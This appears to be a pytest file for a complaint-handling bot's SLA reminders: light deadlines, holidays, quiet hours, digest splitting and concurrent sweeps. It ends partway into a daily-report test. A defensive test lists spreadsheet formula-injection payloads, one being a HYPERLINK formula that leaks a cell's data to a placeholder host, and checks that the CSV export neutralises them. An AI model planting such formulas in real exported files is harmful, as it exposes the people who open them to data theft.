"""The SLA sweep on a moved clock: lights, reminders, overdue alerts, 书面说明, quiet hours,
digests that never storm, the daily report, and exactly-once across concurrent sweeps.

The district is examples/yingze.yaml. Tickets are filed on Wednesday 2026-04-01 10:00 in
Shanghai: yellow at Thu 04-02 10:00, red at Fri 04-03 10:00; 5 working days skip the weekend
and 清明 (Sat 04-04 .. Mon 04-06): Thu 02, Fri 03, Tue 07, Wed 08, Thu 09 -> due at the end of
Thursday 04-09, i.e. 04-10 00:00 local.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import re
from collections import Counter
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import pytest_asyncio

from bot import texts
from bot.channels.port import GROUP, Inbound
from bot.clock import FrozenClock
from bot.config import Settings
from bot.models import (
    Attachment, ChatBinding, Pending, Explanation, Level, Light, MessageRef, Outbox, Resident, ScheduledRun, Staff,
    Status, Ticket, TicketEvent, Unit,
)
from bot.jurisdiction.tree import current as tree_of_units
from bot.refusals import Refused
from bot.runtime import Runtime
from bot.sla import daily, explanations, lights
from bot.workflow import cards
from bot.workflow import filing
from bot.workflow import moves
from bot.sla.digests import MAX_EXPLAIN_BUTTONS, MAX_PARTS, Digest, Item, render_digest, u16len
from bot.jurisdiction.load import load_jurisdiction_file
from bot.jurisdiction.people import SYSTEM, Actor
from bot.sla.policy import PolicyError, QuietWindow, SlaPolicy
from tests.e2e import (
    COMMAND_CHAT, COMMUNITY_NHJ1_CHAT, EXAMPLE, GRID_NHJ1_01_CHAT, GRID_NHJ1_02_CHAT, WORKER_NHJ1_01,
    WORKER_NHJ1_02,
)

SH = ZoneInfo("Asia/Shanghai")
UTC = dt.timezone.utc
FILED = dt.datetime(2026, 4, 1, 10, 0, tzinfo=SH)
DUE_END = dt.datetime(2026, 4, 10, 0, 0, tzinfo=SH)  # end of Thu 04-09
STREET_MIAOQIAN_CHAT = -1001000000201
SHIPPED = Path(__file__).resolve().parent.parent / "bot" / "policy" / "sla.yaml"
H = dt.timedelta(hours=1)
MIN = dt.timedelta(minutes=1)


@pytest_asyncio.fixture
async def rt(db, db_url):
    await load_jurisdiction_file(EXAMPLE)
    return Runtime.from_settings(Settings(database_url=db_url), clock=FrozenClock(FILED), rate_limit=False)


async def file(rt, grid_code="nanhaijie1-01", *, text="南海街1号院楼下早餐店油烟太大", category="fumes",
               urgent=False, triage=False, place="南海街1号院") -> Ticket:
    grid = await Unit.get(code=grid_code)
    new = filing.NewTicket(
        text=text, category=category, confidence=0.9, reasons=["油烟"], urgent=urgent, resident=None,
        anonymous=False, grid=None if triage else grid, location_text=place, lat=None, lon=None,
        followups=[], photos=[], triage_reason="类别不确定" if triage else None, source="patrol",
    )
    return await filing.file_ticket(rt, new, actor=SYSTEM, resident_chat=None)


def at(rt, moment: dt.datetime) -> None:
    rt.clock.set(moment)


async def digests(chat_id: int) -> list[str]:
    """Reminder digests queued for a chat (not cards, prompts or copies)."""
    rows = await Outbox.filter(chat_id=chat_id, ref__isnull=True).order_by("id").values_list("text", flat=True)
    return [t for t in rows if t and t.startswith("⏰")]


async def actions(ticket: Ticket) -> list[str]:
    return list(await TicketEvent.filter(ticket_id=ticket.id).order_by("id").values_list("action", flat=True))


def buttons(chat_rows: list[dict]) -> list[str]:
    return [b["data"] for row in chat_rows for b in row]


# --- the three clocks -------------------------------------------------------------------------

async def test_yellow_at_24_hours_red_at_48_hours_each_told_once(rt):
    ticket = await file(rt)
    at(rt, FILED + 24 * H - MIN)
    assert (await lights.sweep(rt)).claimed == 0

    at(rt, FILED + 24 * H)
    result = await lights.sweep(rt)
    assert (result.yellow, result.red, result.overdue, result.digests) == (1, 0, 0, 1)
    [yellow] = await digests(GRID_NHJ1_01_CHAT)
    assert f"🟡 {ticket.number}｜油烟异味｜南海街1号院" in yellow and "黄灯" in yellow
    await ticket.refresh_from_db()
    assert ticket.light == Light.YELLOW and ticket.yellow_notified_at == rt.clock.now()
    assert (await lights.sweep(rt)).claimed == 0  # told once
    assert await digests(COMMAND_CHAT) == []  # yellow is the holder's business only

    at(rt, FILED + 48 * H)
    result = await lights.sweep(rt)
    assert (result.yellow, result.red, result.digests) == (0, 1, 3)
    own = (await digests(GRID_NHJ1_01_CHAT))[-1]
    assert f"🔴 {ticket.number}" in own and "书面说明" in own and "04-04 10:00" in own  # explain within 24 h
    row = await Outbox.filter(chat_id=GRID_NHJ1_01_CHAT, text=own).first()
    assert buttons(row.buttons) == [f"sla:exp:{ticket.id}"]
    for chat_id in (COMMUNITY_NHJ1_CHAT, COMMAND_CHAT):  # the superior unit and the command centre
        [alert] = await digests(chat_id)
        assert f"🔴 {ticket.number}" in alert and "【南海街一社区第一网格】" in alert
        assert (await Outbox.filter(chat_id=chat_id, text=alert).first()).buttons is None
    await ticket.refresh_from_db()
    assert ticket.light == Light.RED
    card = await Outbox.filter(chat_id=GRID_NHJ1_01_CHAT, ref=f"card:{ticket.id}").order_by("-id").first()
    assert card.text.startswith("🔴")  # the card shows the light
    owed = await Explanation.get(ticket_id=ticket.id)
    assert owed.pending and owed.unit_id == ticket.unit_id
    assert owed.due_at == rt.clock.now() + dt.timedelta(hours=24)
    assert (await lights.sweep(rt)).claimed == 0
    assert (await actions(ticket)).count("lit_yellow") == 1 and (await actions(ticket)).count("lit_red") == 1


async def test_due_after_five_working_days_across_a_weekend_and_the_qingming_holiday(rt):
    ticket = await file(rt)
    assert ticket.due_at == DUE_END.astimezone(UTC)
    worker = await Staff.get(user_id=WORKER_NHJ1_01)
    at(rt, FILED + 2 * H)
    await moves.accept(rt, ticket, worker)  # accepting stops the lights, not the deadline

    at(rt, DUE_END - MIN)  # Thursday 23:59, after a weekend and three days of holiday
    result = await lights.sweep(rt)
    assert result.claimed == 0
    at(rt, DUE_END)
    result = await lights.sweep(rt)
    assert (result.yellow, result.red, result.overdue) == (0, 0, 1)
    [command] = await digests(COMMAND_CHAT)
    assert f"⌛ {ticket.number}｜油烟异味｜南海街1号院｜【南海街一社区第一网格】｜期限 04-09 24:00" in command
    [leader] = await digests(WORKER_NHJ1_01)  # 张丽 leads the grid: told in private
    assert ticket.number in leader and "超期" in leader
    assert await digests(GRID_NHJ1_01_CHAT) == []
    assert (await lights.sweep(rt)).claimed == 0
    assert "overdue" in await actions(ticket)


async def test_accepting_stops_the_yellow_and_red_clocks(rt):
    ticket = await file(rt)
    at(rt, FILED + 23 * H)
    await moves.accept(rt, ticket, await Staff.get(user_id=WORKER_NHJ1_01))
    at(rt, FILED + 72 * H)
    assert (await lights.sweep(rt)).claimed == 0
    await ticket.refresh_from_db()
    assert ticket.light == Light.GREEN and ticket.yellow_notified_at is None
    assert await digests(GRID_NHJ1_01_CHAT) == []


async def test_a_reopened_ticket_gets_new_deadlines_and_is_told_again(rt):
    ticket = await file(rt)
    at(rt, FILED + 48 * H)
    assert (await lights.sweep(rt)).red == 1
    worker = await Staff.get(user_id=WORKER_NHJ1_01)
    at(rt, FILED + 50 * H)
    await moves.resolve(rt, ticket, worker, "已处理", [])
    reopened_at = FILED + 52 * H
    at(rt, reopened_at)
    await moves.reopen(rt, ticket, Actor("resident", 1), reason="不满意", rating="unsatisfied")
    await ticket.refresh_from_db()
    assert ticket.yellow_at == reopened_at + 24 * H and ticket.light == Light.GREEN
    assert ticket.due_at > DUE_END  # a fresh 5 working days

    at(rt, reopened_at + 24 * H - MIN)
    result = await lights.sweep(rt)  # (the first red's 书面说明 is listed missing meanwhile)
    assert (result.yellow, result.red, result.overdue) == (0, 0, 0)
    at(rt, reopened_at + 24 * H)
    assert (await lights.sweep(rt)).yellow == 1
    at(rt, reopened_at + 48 * H)
    assert (await lights.sweep(rt)).red == 1
    assert await Explanation.filter(ticket_id=ticket.id).order_by("round").values_list("round", flat=True) == [0, 1]


async def test_a_ticket_first_seen_red_is_told_red_only(rt):
    ticket = await file(rt)
    at(rt, FILED + 60 * H)  # the bot was down through the yellow moment
    result = await lights.sweep(rt)
    assert (result.yellow, result.red) == (0, 1)
    [own] = await digests(GRID_NHJ1_01_CHAT)
    assert "🔴" in own and "🟡" not in own
    assert await actions(ticket) == ["submitted", "assigned", "lit_red"]
    at(rt, FILED + 61 * H)
    assert (await lights.sweep(rt)).claimed == 0


async def test_triage_tickets_remind_the_command_centre(rt):
    ticket = await file(rt, triage=True)
    at(rt, FILED + 24 * H)
    assert (await lights.sweep(rt)).yellow == 1
    [digest] = await digests(COMMAND_CHAT)
    assert ticket.number in digest
    at(rt, FILED + 48 * H)
    assert (await lights.sweep(rt)).red == 1
    own = (await digests(COMMAND_CHAT))[-1]
    row = await Outbox.filter(chat_id=COMMAND_CHAT, text=own).first()
    assert buttons(row.buttons) == [f"sla:exp:{ticket.id}"]  # the command centre explains its own delay
    assert (await Explanation.get(ticket_id=ticket.id)).unit_id == (await Unit.get(level=Level.DISTRICT)).id


async def test_urgent_clocks_run_in_hours_and_one_sweep_tells_a_chat_once(rt):
    ticket = await file(rt, text="南海街1号院楼道煤气味很浓", category="safety", urgent=True)
    at(rt, FILED + 1 * H - MIN)
    assert (await lights.sweep(rt)).claimed == 0
    at(rt, FILED + 1 * H)  # urgent: yellow after 1 hour
    assert (await lights.sweep(rt)).yellow == 1
    at(rt, FILED + 2 * H)  # red after 2 hours, and urgent safety must be handled within 2 hours
    result = await lights.sweep(rt)
    assert (result.yellow, result.red, result.overdue) == (0, 1, 1)
    [command] = await digests(COMMAND_CHAT)  # red and overdue for the same chat: one message
    assert "🔴 红灯" in command and "⌛ 超期" in command and command.count(ticket.number) == 2
    assert (await Ticket.get(id=ticket.id)).light == Light.RED


# --- 书面说明 ---------------------------------------------------------------------------------

def in_chat(user_id: int, chat_id: int, text: str | None = None) -> Inbound:
    return Inbound(channel="telegram", user_id=user_id, chat_id=chat_id, chat_kind=GROUP, text=text)


async def write_explanation(rt, user_id: int, chat_id: int, text: str) -> bool:
    """What the router does with the words of someone asked for a 书面说明 (False: nobody asked)."""
    asked = await Pending.get_or_none(chat_id=chat_id, user_id=user_id, kind=explanations.EXPLAIN.name)
    if asked is None:
        return False
    await explanations.take_explanation(rt, asked, in_chat(user_id, chat_id, text.strip()))
    return True


async def test_written_explanation_lands_in_the_history_once(rt):
    ticket = await file(rt)
    at(rt, FILED + 48 * H)
    await lights.sweep(rt)
    with pytest.raises(Refused, match="南海街一社区第一网格"):  # not the responsible unit
        await explanations.ask_explanation(rt, in_chat(WORKER_NHJ1_02, GRID_NHJ1_02_CHAT), ticket_id=ticket.id)
    with pytest.raises(Refused):
        await explanations.ask_explanation(rt, in_chat(5550001, GRID_NHJ1_01_CHAT), ticket_id=ticket.id)  # not staff
    # Words before being asked are group chatter, left to the other handlers.
    assert not await write_explanation(rt, WORKER_NHJ1_01, GRID_NHJ1_01_CHAT, "收到")

    toast = await explanations.ask_explanation(rt, in_chat(WORKER_NHJ1_01, GRID_NHJ1_01_CHAT), ticket_id=ticket.id)
    assert toast == texts.SLA_ASK_EXPLANATION_TOAST
    draft = await Pending.get(chat_id=GRID_NHJ1_01_CHAT, user_id=WORKER_NHJ1_01)
    assert draft.kind == "explain" and draft.subject == str(ticket.id)
    at(rt, FILED + 50 * H)
    assert await write_explanation(rt, WORKER_NHJ1_01, GRID_NHJ1_01_CHAT, "  当天在外参加防汛培训，未及时查看工作群  ")
    event = await TicketEvent.get(ticket_id=ticket.id, action="explained")
    assert event.note == "当天在外参加防汛培训，未及时查看工作群" and event.actor_name == "张丽"
    assert event.unit_id == ticket.unit_id and event.data == {"round": 0, "late": False}
    owed = await Explanation.get(ticket_id=ticket.id)
    assert not owed.pending and owed.text == event.note and owed.explained_by == WORKER_NHJ1_01
    copy = await Outbox.filter(chat_id=COMMAND_CHAT, text__startswith="📝").first()
    assert ticket.number in copy.text and "防汛培训" in copy.text
    assert not await Pending.exists(chat_id=GRID_NHJ1_01_CHAT, user_id=WORKER_NHJ1_01)
    with pytest.raises(Refused, match="已经提交过"):
        await explanations.ask_explanation(rt, in_chat(WORKER_NHJ1_01, GRID_NHJ1_01_CHAT), number=ticket.number.lower())
    # Explained in time: never listed as missing.
    at(rt, FILED + 80 * H)
    assert (await lights.sweep(rt)).missing_explanations == 0


async def test_missing_explanations_are_listed_to_the_command_centre_once(rt):
    first = await file(rt)
    second = await file(rt, "nanhaijie1-02", place="惠民小区")
    at(rt, FILED + 48 * H)
    await lights.sweep(rt)
    before = len(await digests(COMMAND_CHAT))
    at(rt, FILED + 72 * H - MIN)
    assert (await lights.sweep(rt)).missing_explanations == 0
    at(rt, FILED + 72 * H)
    assert (await lights.sweep(rt)).missing_explanations == 2
    listing = (await digests(COMMAND_CHAT))[before:]
    assert len(listing) == 1 and "书面说明逾期" in listing[0]
    assert f"{first.number}｜【南海街一社区第一网格】" in listing[0] and f"{second.number}｜【南海街一社区第二网格】" in listing[0]
    assert (await lights.sweep(rt)).missing_explanations == 0
    assert "explanation_overdue" in await actions(first)
    # Late is still better than never: the text is kept, marked late.
    at(rt, FILED + 73 * H)
    await explanations.ask_explanation(rt, in_chat(WORKER_NHJ1_01, GRID_NHJ1_01_CHAT), ticket_id=first.id)
    assert await write_explanation(rt, WORKER_NHJ1_01, GRID_NHJ1_01_CHAT, "补交说明")
    assert (await TicketEvent.get(ticket_id=first.id, action="explained")).data["late"] is True


# --- quiet hours ------------------------------------------------------------------------------

def policy_with(tmp_path, extra: str) -> SlaPolicy:
    path = tmp_path / "sla.yaml"
    text = SHIPPED.read_text(encoding="utf-8").replace('daily_report_at: "08:30"\n', "")
    path.write_text(text + extra, encoding="utf-8")
    return SlaPolicy.load(path)


async def test_quiet_hours_hold_non_red_reminders_until_morning_in_one_digest(rt, tmp_path):
    rt.sla = policy_with(tmp_path, 'quiet_hours:\n  start: "22:00"\n  end: "07:00"\n'
                                   '  units:\n    yingze: none\ndaily_report_at: "08:30"\n')
    night = dt.datetime(2026, 4, 1, 23, 0, tzinfo=SH)
    numbers = []
    for hour in range(3):  # filed 23:00, 00:00, 01:00 the night before; yellow at those hours
        at(rt, night - 24 * H + hour * H)
        numbers.append((await file(rt)).number)
    at(rt, night - 24 * H + 1 * H)
    urgent = await file(rt, text="南海街1号院门口井盖丢了", category="safety", urgent=True)
    for step in range(0, 8 * 60, 30):  # a sweep every half hour through the night
        at(rt, night + step * MIN)
        result = await lights.sweep(rt)
        assert result.yellow == 0  # held back …
    own = await digests(GRID_NHJ1_01_CHAT)
    assert len(own) == 1 and urgent.number in own[0] and "🔴" in own[0]  # … but red is never held
    assert [t.light for t in await Ticket.filter(number__in=numbers)] == [Light.GREEN] * 3
    at(rt, dt.datetime(2026, 4, 2, 7, 0, tzinfo=SH))
    result = await lights.sweep(rt)
    assert result.yellow == 3
    morning = (await digests(GRID_NHJ1_01_CHAT))[1:]
    assert len(morning) == 1 and all(n in morning[0] for n in numbers)


def test_quiet_window_crosses_midnight_and_is_checked(tmp_path):
    window = QuietWindow(dt.time(22), dt.time(7))
    assert window.contains(dt.time(23, 30)) and window.contains(dt.time(6, 59))
    assert not window.contains(dt.time(7)) and not window.contains(dt.time(21, 59))
    late = dt.datetime(2026, 4, 1, 23, 0, tzinfo=SH)
    assert window.ends_after(late, SH) == dt.datetime(2026, 4, 2, 7, 0, tzinfo=SH)
    assert window.ends_after(late.replace(hour=12), SH) is None
    policy = policy_with(tmp_path, 'quiet_hours:\n  start: "22:00"\n  end: "07:00"\n  units:\n'
                                   '    yingze: none\n    nanhaijie1-01: {start: "21:00", end: "08:00"}\n')
    assert policy.quiet_until("yingze", late, SH) is None
    assert policy.quiet_until("nanhaijie1-01", late, SH) == dt.datetime(2026, 4, 2, 8, 0, tzinfo=SH)
    assert policy.quiet_until("wenmiao-01", late, SH) == dt.datetime(2026, 4, 2, 7, 0, tzinfo=SH)
    assert policy.daily_report_at is not None and policy.daily_report_at.hour == 8  # the default
    assert SlaPolicy.load().quiet_hours is None  # shipped: no quiet hours
    for bad, words in [('quiet_hours:\n  start: 22:00\n  end: "07:00"\n', 'quoted local time'),
                       ('quiet_hours:\n  start: "22:00"\n  end: "22:00"\n', 'both 22:00'),
                       ('quiet_hours:\n  start: "22:00"\n', 'quiet_hours.end: missing'),
                       ('quiet_hours:\n  begin: "22:00"\n', 'unknown key'),
                       ('daily_report_at: "8:30"\n', 'daily_report_at')]:
        with pytest.raises(PolicyError, match=words):
            policy_with(tmp_path, bad)
    assert policy_with(tmp_path, "daily_report_at: null\n").daily_report_at is None


# --- no storms --------------------------------------------------------------------------------

async def make_grids(count: int) -> list[tuple[Unit, int]]:
    """More grids with chats under 南海街一社区, up to `count` grids in all."""
    community = await Unit.get(code="nanhaijie1")
    grids = [(u, c) for u, c in [(await Unit.get(id=b.unit_id), b.chat_id)
                                 for b in await ChatBinding.filter(unit__level=Level.GRID).order_by("id")]]
    n = 0
    while len(grids) < count:
        n += 1
        unit = await Unit.create(code=f"storm-{n:02d}", name=f"压力测试第{n}网格", level=Level.GRID, parent=community)
        chat = -1002000000000 - n
        await ChatBinding.create(chat_id=chat, unit=unit, title=unit.name)
        grids.append((unit, chat))
    return grids


async def bulk_tickets(rt, grids, n: int, *, filed: dt.datetime, prefix: str = "ST", place=None) -> None:
    d = rt.sla.deadlines("noise", False, filed, calendar=rt.calendar, tz=rt.tz)
    rows = []
    for i in range(n):
        unit, _ = grids[i % len(grids)]
        rows.append(Ticket(
            number=f"{prefix}-{i:06d}", text="楼上装修噪音", category="noise", grid_id=unit.id, unit_id=unit.id,
            level=Level.GRID, status=Status.ASSIGNED, created_at=filed, updated_at=filed, assigned_at=filed,
            location_text=place(i) if place else f"惠民小区{i % 40}号楼", yellow_at=d.yellow_at, red_at=d.red_at, due_at=d.due_at,
            due_workdays=d.due_workdays,
        ))
    await Ticket.bulk_create(rows, batch_size=1000)


async def test_two_thousand_tickets_turning_yellow_make_one_digest_per_chat(rt):
    grids = await make_grids(50)
    await bulk_tickets(rt, grids, 2000, filed=FILED)
    at(rt, FILED + 24 * H)
    result = await lights.sweep(rt)
    # Cards show their new light within the sweep's budget (the rest at their next change).
    assert (result.yellow, result.digests, result.card_edits) == (2000, 50, lights.CARD_EDITS_PER_SWEEP)
    for _, chat in grids:
        [digest] = await digests(chat)
        assert u16len(digest) <= 4096 and "🟡 黄灯：以下 40 件" in digest
        cards = await Outbox.filter(chat_id=chat, ref__isnull=False).count()
        assert cards == lights.CARD_EDITS_PER_SWEEP // len(grids) and 1 + cards <= 20
        assert digest.count("\n🟡 ST-") == 40  # 40 rows fit: no "另有"
    assert await Ticket.filter(light=Light.YELLOW).count() == 2000
    assert (await lights.sweep(rt)).claimed == 0


async def test_red_cards_are_edited_at_most_ten_per_chat_per_sweep(rt):
    filed = [await file(rt) for _ in range(12)]
    at(rt, FILED + 48 * H)
    result = await lights.sweep(rt)
    assert result.red == 12 and result.card_edits == lights.CARD_EDITS_PER_CHAT
    [own] = await digests(GRID_NHJ1_01_CHAT)
    row = await Outbox.filter(chat_id=GRID_NHJ1_01_CHAT, text=own).first()
    assert len(row.buttons) == MAX_EXPLAIN_BUTTONS and "/explain" in own
    assert all(t.number in own for t in filed)


NUMBER = re.compile(r"\b[A-Z]{2}-\d{6}\b|\bYZ-20260401-\d{4}\b")


def named_in(messages) -> Counter:
    """Ticket numbers named in reminder texts and the lists attached to them."""
    seen: Counter = Counter()
    for m in messages:
        if m.file_data is not None:
            rows = list(csv.reader(io.StringIO(bytes(m.file_data).decode("utf-8-sig"))))
            column = rows[0].index("工单号")
            seen.update(row[column] for row in rows[1:])
        seen.update(NUMBER.findall(m.text or ""))
    return seen


def long_digest(own_red: int, overdue: int, yellow: int) -> Digest:
    d = Digest()
    for i in range(own_red + overdue + yellow):
        item = Item(i + 1, f"YZ-20260401-{i:04d}", "fumes", "南海街1号院" * 3, "南海街一社区第一网格",
                              dt.datetime(2026, 4, 10, tzinfo=UTC))
        (d.own_red if i < own_red else d.overdue if i < own_red + overdue else d.yellow).append(item)
    return d


def render(d: Digest):
    return render_digest(-1, d, now=dt.datetime(2026, 4, 3, tzinfo=UTC), tz=SH,
                                   deadline=dt.datetime(2026, 4, 4, tzinfo=UTC))


def test_a_list_too_long_for_one_message_goes_in_parts_each_ticket_named_once():
    d = long_digest(20, 0, 140)  # about 7,000 characters: the old digest cut it with "另有"
    messages = render(d)
    assert 1 < len(messages) <= MAX_PARTS
    assert all(u16len(m.text) <= 4096 and m.file_data is None for m in messages)
    assert all(f"（{n}/{len(messages)}）" in m.text.splitlines()[0] for n, m in enumerate(messages, 1))
    assert named_in(messages) == Counter(i.number for i in d.own_red + d.yellow)  # each exactly once
    assert "另有" not in "".join(m.text for m in messages)
    assert messages[-1].text.splitlines()[1] == "🟡 黄灯（续）："  # a section cut between parts keeps its name
    assert len(messages[0].buttons) == 10 and all(m.buttons is None for m in messages[1:])


def test_a_list_longer_than_three_messages_is_a_summary_and_a_file():
    d = long_digest(100, 200, 300)
    summary, listing = render(d)
    assert not NUMBER.findall(summary.text)  # the file names them, so the summary names none
    assert "共 600 件" in summary.text and "🔴 红灯 100 件" in summary.text and "⌛ 超期 200 件" in summary.text
    assert "🟡 黄灯 300 件" in summary.text and "04-04 08:00" in summary.text  # the 书面说明 deadline
    assert len(summary.buttons) == 10 and u16len(summary.text) <= 4096
    assert listing.file_kind == "document" and listing.file_name.endswith(".csv") and listing.chat_id == -1
    assert not NUMBER.findall(listing.text or "") and len(listing.text) <= 1024  # a caption
    assert named_in([summary, listing]) == Counter(f"YZ-20260401-{i:04d}" for i in range(600))
    rows = list(csv.reader(io.StringIO(listing.file_data.decode("utf-8-sig"))))
    assert listing.file_data.startswith("\ufeff".encode()) and rows[0][:3] == ["提醒", "工单号", "类别"]
    assert Counter(r[0] for r in rows[1:]) == {"红灯": 100, "超期": 200, "黄灯": 300}
    assert rows[101][5] == "04-10 08:00"  # an overdue row's deadline, local time


async def reminders(chat_id: int) -> list[Outbox]:
    """What a chat is told by the sweep: texts and files, not cards."""
    return await Outbox.filter(chat_id=chat_id, ref__isnull=True).order_by("id")


FORMULAS = ['=HYPERLINK("http://x.example/?"&A2,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
            "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1+1"]


async def test_the_csv_list_keeps_places_typed_as_formulas_as_text_and_masks_phones(rt):
    """A place reaches the list as a resident or an Open311 client typed it: no cell may start
    a formula when the file is opened (OWASP's rule: a leading '), and no phone number leaves."""
    grid = await Unit.get(code="nanhaijie1-01")
    places = [*FORMULAS, "3号楼，电话13800138000"]
    await bulk_tickets(rt, [(grid, GRID_NHJ1_01_CHAT)], 600, filed=FILED, prefix="YL",
                       place=lambda i: places[i % len(places)])  # more than three messages hold: a file
    at(rt, FILED + 24 * H)
    await lights.sweep(rt)
    [listing] = [m for m in await reminders(GRID_NHJ1_01_CHAT) if m.file_data is not None]
    rows = list(csv.reader(io.StringIO(bytes(listing.file_data).decode("utf-8-sig"))))
    column = rows[0].index("地点")
    cells = {r[column] for r in rows[1:]}
    assert len(rows) == 601 and all(c[:1] == "'" for c in cells if not c.startswith("3号楼"))
    assert {c[1:] for c in cells if c[:1] == "'"} == {f if len(f) <= 24 else f[:24] + "…" for f in FORMULAS}
    assert "3号楼，电话138****8000" in cells and "13800138000" not in listing.file_data.decode("utf-8-sig")


async def test_one_grid_with_hundreds_due_hears_of_each_once_in_three_messages_at_most(rt):
    grid = await Unit.get(code="nanhaijie1-01")
    await bulk_tickets(rt, [(grid, GRID_NHJ1_01_CHAT)], 300, filed=FILED, prefix="YL")
    at(rt, FILED + 24 * H)
    result = await lights.sweep(rt)
    told = await reminders(GRID_NHJ1_01_CHAT)
    assert result.yellow == 300 and 1 < len(told) <= MAX_PARTS == result.digests
    assert named_in(told) == Counter(f"YL-{i:06d}" for i in range(300))
    assert all(u16len(m.text) <= 4096 for m in told)


async def test_a_red_storm_names_every_ticket_once_in_each_chat_that_must_hear_of_it(rt):
    grids = [(await Unit.get(code=code), chat) for code, chat in
             (("nanhaijie1-01", GRID_NHJ1_01_CHAT), ("nanhaijie1-02", GRID_NHJ1_02_CHAT))]
    await bulk_tickets(rt, grids, 1200, filed=FILED, prefix="RS")
    at(rt, FILED + 48 * H)
    result = await lights.sweep(rt)
    assert result.red == 1200 and result.card_edits == 2 * lights.CARD_EDITS_PER_CHAT
    numbers = [f"RS-{i:06d}" for i in range(1200)]
    for chat_id, expected in [(GRID_NHJ1_01_CHAT, numbers[0::2]), (GRID_NHJ1_02_CHAT, numbers[1::2]),
                              (COMMUNITY_NHJ1_CHAT, numbers), (COMMAND_CHAT, numbers)]:
        told = await reminders(chat_id)
        assert len(told) == 2 and told[1].file_data is not None  # a summary, then the list
        assert named_in(told) == Counter(expected), chat_id
        cards = await Outbox.filter(chat_id=chat_id, ref__isnull=False).count()
        assert len(told) + cards <= 20  # Telegram's limit for a group, per minute
    assert (await lights.sweep(rt)).claimed == 0


async def test_red_cards_edited_in_a_batch_read_as_refresh_card_writes_them(rt):
    """The sweep renders red cards for many tickets with a few queries; each must be what
    cards.refresh_card gives, whatever the card's past (or it must defer to refresh_card)."""
    resident = await Resident.create(user_id=5550101, display_name="王小明", created_at=rt.clock.now())
    plain = await file(rt)
    new = filing.NewTicket(
        text="文庙广场井盖松动", category="facility", confidence=0.9, reasons=["井盖"], urgent=False,
        resident=resident, anonymous=False, grid=await Unit.get(code="wenmiao-01"), location_text="文庙广场",
        lat=None, lon=None, followups=[{"q": "在哪个位置？", "a": "东门"}],
        photos=[{"file_id": "PHOTO-1", "file_unique_id": "u1"}], triage_reason=None, source="resident")
    with_photo = await filing.file_ticket(rt, new, actor=SYSTEM, resident_chat=None)
    triage = await file(rt, triage=True)
    elsewhere = await file(rt, "nanhaijie1-02", place="惠民小区")
    await MessageRef.create(chat_id=COMMUNITY_NHJ1_CHAT, ref=f"card:{elsewhere.id}", message_id=77,
                            updated_at=rt.clock.now())
    grid = await Unit.get(code="nanhaijie1-01")
    await bulk_tickets(rt, [(grid, GRID_NHJ1_01_CHAT)], 1, filed=FILED, prefix="NC")  # never had a card
    never = await Ticket.get(number="NC-000000")
    await Attachment.create(ticket_id=never.id, file_id="PHOTO-2", created_at=FILED)
    await Ticket.create(number="DUP-1", text="同上", category="fumes", status=Status.MERGED, merged_into_id=plain.id,
                        resident_id=resident.id, created_at=FILED, updated_at=FILED)
    reopened = await file(rt)  # back after 不满意: its card says so on top
    await moves.resolve(rt, reopened, await Staff.get(user_id=WORKER_NHJ1_01), "已劝导", [])
    await moves.reopen(rt, reopened, SYSTEM, reason="不满意", rating="unsatisfied")
    at(rt, FILED + 48 * H)
    batch = [await Ticket.get(id=t.id) for t in (plain, with_photo, triage, elsewhere, never, reopened)]
    for ticket in batch:
        ticket.light = Light.RED
    ours = await lights.card_messages(rt, batch, await tree_of_units())
    assert [t.id for t, _ in ours] == [t.id for t in batch]
    for ticket, messages in ours:
        assert messages == await cards.refresh_card(rt, ticket), ticket.number
    by_id = {t.id: m for t, m in ours}
    assert "反映人数：2位居民反映" in by_id[plain.id][0].text  # its duplicate's resident counts
    assert [m.photo for m in by_id[never.id]] == [None, "PHOTO-2"]  # first shown: the card, then its photo
    assert {m.chat_id for m in by_id[elsewhere.id]} == {GRID_NHJ1_02_CHAT, COMMUNITY_NHJ1_CHAT}
    assert by_id[reopened.id][0].text.startswith("↩️ 居民对处理结果不满意，重新交办（上次处理：已劝导）")


# --- exactly once, several instances ----------------------------------------------------------

async def test_four_sweeps_at_once_notify_each_ticket_and_level_exactly_once(rt, db_url):
    if not db_url.startswith("postgres"):
        pytest.skip("needs PostgreSQL (SQLite has one writer)")
    from bot.db import database

    grids = await make_grids(20)
    await bulk_tickets(rt, grids, 100, filed=FILED - 72 * H, prefix="RD")  # red and its explanation due
    await bulk_tickets(rt, grids, 100, filed=FILED - 24 * H, prefix="YL")  # yellow due
    await bulk_tickets(rt, grids, 60, filed=FILED - 12 * 24 * H, prefix="OD")  # red and overdue
    await Ticket.filter(number__startswith="OD").update(status=Status.ACCEPTED)  # lights stopped: overdue only
    at(rt, FILED)
    start = asyncio.Event()
    ready = 0

    async def instance() -> list[lights.SweepResult]:
        nonlocal ready
        async with database(db_url):  # its own connections, as a separate process would have
            ready += 1
            if ready == 4:
                start.set()
            await start.wait()
            return [await lights.sweep(rt) for _ in range(3)]

    runs = [r for rs in await asyncio.gather(*(instance() for _ in range(4))) for r in rs]
    assert sum(r.red for r in runs) == 100 and sum(r.yellow for r in runs) == 100
    assert sum(r.overdue for r in runs) == 60  # 12 days old: past 5 working days; 3 days old: not yet
    assert len([r for r in runs if r.claimed]) >= 1
    # 24 h later (4 sweeps at once again, on the pool's separate connections): the yellow ones
    # turn red, and the explanations nobody wrote for the first red ones are listed
    at(rt, FILED + 24 * H + MIN)
    later = await asyncio.gather(*(lights.sweep(rt) for _ in range(4)))
    assert sum(r.red for r in later) == 100 and sum(r.missing_explanations for r in later) == 100
    for action, expected in [("lit_red", 200), ("lit_yellow", 100), ("overdue", 60), ("explanation_overdue", 100)]:
        per_ticket = await TicketEvent.filter(action=action).values_list("ticket_id", flat=True)
        assert len(per_ticket) == expected == len(set(per_ticket)), action
    assert await Explanation.filter().count() == 200
    # in its own chat each ticket was listed yellow once and red once, whoever sent the digests
    for unit, chat in grids:
        text = "\n".join(await digests(chat))
        for number in await Ticket.filter(unit_id=unit.id, number__startswith="YL").values_list("number", flat=True):
            assert text.count(f"🟡 {number}｜") == 1 and text.count(f"🔴 {number}｜") == 1


# --- the daily report -------------------------------------------------------------------------

async def test_daily_report_goes_out_once_with_yesterdays_figures(rt):
    a = await file(rt)  # Wed 04-01: received; turns yellow and red, then resolved Fri
    await file(rt, "nanhaijie1-02", place="惠民小区")
